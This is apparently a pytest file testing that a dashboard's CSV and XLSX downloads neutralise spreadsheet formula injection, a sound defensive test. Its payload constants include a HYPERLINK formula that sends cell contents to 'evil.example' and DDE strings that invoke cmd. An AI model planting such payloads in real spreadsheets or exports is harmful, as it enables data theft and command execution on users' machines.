"""Formula injection in table downloads (issue 15, class 5), over real HTTP on the fictional warehouse.

Country names and a file name in ``sources`` are set to formula payloads (=, +, -, @, tab, CR); every CSV and XLSX
download must carry them as inert text, unchanged apart from the CSV's leading quote, while numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import duckdb
import pytest

from dashboard.export.cells import is_risky, neutralise, safe_frame
from tests.test_dashboard_unit import VALUES, build_warehouse

PAYLOADS = {  # fictional countries (ISO 3166 user-assigned codes) renamed to what a hostile file could carry
    "XXA": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Avalonia\")",
    "XXB": "+cmd|' /C calc'!A0",
    "XXC": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FILE_NAME = "-2+3+cmd|' /C calc'!A0.csv"
TAB_TITLE = "\t=1+1"
CR_CITATION = "\r=1+1"


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    from dashboard import data
    from dashboard.server import create_app

    db = build_warehouse(tmp_path_factory.mktemp("wh-formula") / "warehouse.duckdb")
    con = duckdb.connect(str(db))
    for iso3, name in PAYLOADS.items():
        con.execute("UPDATE countries SET name = ? WHERE iso3 = ?", [name, iso3])
    con.execute("UPDATE sources SET file_name = ?, title = ?, citation = ? WHERE source_id = 'test_ucdp'",
                [FILE_NAME, TAB_TITLE, CR_CITATION])
    con.close()
    app = create_app(db)
    yield app.server.test_client()
    data.warehouse().close()


def _csv_rows(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    return list(csv.reader(io.StringIO("".join(ln for ln in text.splitlines(keepends=True)
                                               if not ln.startswith("# ")), newline="")))


def _no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not is_risky(cell), f"live formula in a download: {cell!r}"


@pytest.mark.parametrize(("text", "want"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-", "'-"), ("=", "'="),
    ("-5", "-5"), ("+3.25", "+3.25"), ("-1.5e3", "-1.5e3"), ("-1,234", "-1,234"), ("", ""), ("Sudan", "Sudan"),
    ("a=1", "a=1"), (" =1", " =1"), ("'=1", "'=1"),
])
def test_neutralise_follows_owasp_and_leaves_numbers_alone(text, want):
    assert neutralise(text) == want


def test_safe_frame_touches_text_only_and_keeps_numeric_types():
    import polars as pl

    df = pl.DataFrame({"=name": ["=1", "-5", None, "ok"], "value": [-1, 2, 3, 4], "share": [-0.5, 0.1, None, 1.0]},
                      schema_overrides={"value": pl.Int64})
    out = safe_frame(df)
    assert out.columns == ["'=name", "value", "share"]
    assert out["'=name"].to_list() == ["'=1", "-5", None, "ok"]
    assert out.schema["value"] == pl.Int64 and out["value"].to_list() == [-1, 2, 3, 4]
    assert out["share"].to_list() == [-0.5, 0.1, None, 1.0]
    assert df["=name"].to_list() == ["=1", "-5", None, "ok"]  # the page's own frame is not changed


def test_map_csv_carries_country_names_as_text_and_values_as_numbers(client):
    r = client.get("/export/table/ov-map.csv?indicator=ucdp_onesided_deaths&year=2021")
    assert r.status_code == 200
    rows = _csv_rows(r.data)
    header, body = rows[0], rows[1:]
    _no_live_formula(rows)
    by_iso = {row[header.index("iso3")]: row for row in body}
    want = {i: v for i, y, ind, v in VALUES if y == 2021 and ind == "ucdp_onesided_deaths"}
    assert {i: float(row[header.index("value")]) for i, row in by_iso.items()} == want
    for iso3 in want:
        assert by_iso[iso3][header.index("country")] == "'" + PAYLOADS[iso3]


def test_sources_csv_and_xlsx_neutralise_file_names_titles_and_citations(client):
    rows = _csv_rows(client.get("/export/table/sources.csv").data)
    _no_live_formula(rows)
    header = rows[0]
    ucdp = [dict(zip(header, r, strict=True)) for r in rows[1:] if r[header.index("source_id")] == "test_ucdp"]
    assert ucdp and all(r["file_name"] == "'" + FILE_NAME for r in ucdp)
    assert all(r["title"] == "'" + TAB_TITLE for r in ucdp)
    assert all(r["citation"] == "'" + CR_CITATION for r in ucdp)
    assert all(int(r["rows_loaded"]) >= 0 for r in ucdp)  # counts stay plain numbers

    from openpyxl import load_workbook

    r = client.get("/export/table/sources.xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.data)).active
    kinds = {(c.data_type, c.quotePrefix) for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and is_risky(c.value)}
    assert kinds == {("s", True)}  # text cells with Excel's quote prefix: shown as written, never run
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    values = [c.value for row in ws.iter_rows() for c in row]
    assert FILE_NAME in values and TAB_TITLE in values and CR_CITATION in values  # the text itself unchanged
    head = next(i for i, row in enumerate(ws.iter_rows(values_only=True), 1) if row[0] == "source_id")
    loaded = next(ws.iter_rows(min_row=head, max_row=head, values_only=True)).index("rows_loaded") + 1
    assert all(isinstance(ws.cell(i, loaded).value, int) for i in range(head + 1, ws.max_row + 1))


def test_chart_xlsx_keeps_numbers_numeric_and_names_inert(client):
    from openpyxl import load_workbook

    r = client.get("/export/table/ov-map.xlsx?indicator=ucdp_onesided_deaths&year=2021")
    ws = load_workbook(io.BytesIO(r.data)).active
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    head = next(i for i, row in enumerate(ws.iter_rows(values_only=True), 1) if row and row[0] == "country")
    got = {ws.cell(i, 2).value: (ws.cell(i, 1).value, ws.cell(i, 3).value) for i in range(head + 1, ws.max_row + 1)}
    want = {i: v for i, y, ind, v in VALUES if y == 2021 and ind == "ucdp_onesided_deaths"}
    assert {i: v for i, (_, v) in got.items()} == want
    assert all(isinstance(v, int | float) for _, v in got.values())
    assert {i: n for i, (n, _) in got.items()} == {i: PAYLOADS[i] for i in want}


def test_explorer_csv_neutralises_country_names_and_keeps_values(client):
    from dashboard.pages import explore

    text = explore.csv_text("", "", ["ucdp_onesided_deaths"], 2020, 2021, [], "?x=1")
    rows = _csv_rows(text.encode())
    _no_live_formula(rows)
    header = rows[0]
    names = {r[header.index("iso3")]: r[header.index("name")] for r in rows[1:]} if "name" in header else {}
    assert names and all(names[i] == "'" + PAYLOADS[i] for i in names)
    got = {(r[header.index("iso3")], int(r[header.index("year")])): r[header.index("ucdp_onesided_deaths")]
           for r in rows[1:]}
    for (iso3, year), v in got.items():
        want = [val for i, y, ind, val in VALUES if (i, y, ind) == (iso3, year, "ucdp_onesided_deaths")]
        assert (float(v) if v else None) == (want[0] if want else None)
